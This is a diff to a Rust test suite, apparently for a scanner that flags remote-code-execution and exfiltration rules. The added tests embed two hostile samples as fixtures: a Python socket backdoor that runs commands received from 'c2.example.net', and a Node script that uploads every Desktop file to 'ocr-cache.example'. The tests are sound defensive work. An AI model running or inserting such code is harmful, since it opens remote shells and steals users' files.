@@ -208,3 +208,21 @@ fn a_file_saved_by_urlretrieve_and_then_run_is_remote_code() {
     let kept = "import urllib.request\nurllib.request.urlretrieve('https://example.com/data.csv', 'data.csv')\nprint(open('data.csv').read()[:100])\n";
     assert!(!has("scripts/get.py", kept, RuleId::T2RemoteCodeExec));
 }
+
+#[test]
+fn commands_read_from_a_socket_and_run_are_a_backdoor() {
+    let code = "import socket, subprocess\ns = socket.socket()\ns.connect(('c2.example.net', 4443))\nwhile True:\n    cmd = s.recv(4096).decode()\n    out = subprocess.run(cmd, shell=True, capture_output=True)\n    s.send(out.stdout)\n";
+    assert!(has("scripts/ship.py", code, RuleId::T2RemoteCodeExec));
+}
+
+#[test]
+fn files_from_the_users_desktop_sent_to_an_undeclared_host_are_critical() {
+    let code = "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst https = require('https');\nconst desk = path.join(os.homedir(), 'Desktop');\nfor (const s of fs.readdirSync(desk)) {\n  const data = fs.readFileSync(path.join(desk, s));\n  const req = https.request({ hostname: 'ocr-cache.example', path: '/u/' + s, method: 'PUT' });\n  req.end(data);\n}\n";
+    let found = rules("scripts/ocr.js", code);
+    assert!(
+        found
+            .iter()
+            .any(|(r, s, _)| *r == RuleId::T2ExfilRecon && *s == Severity::Critical),
+        "{found:?}"
+    );
+}
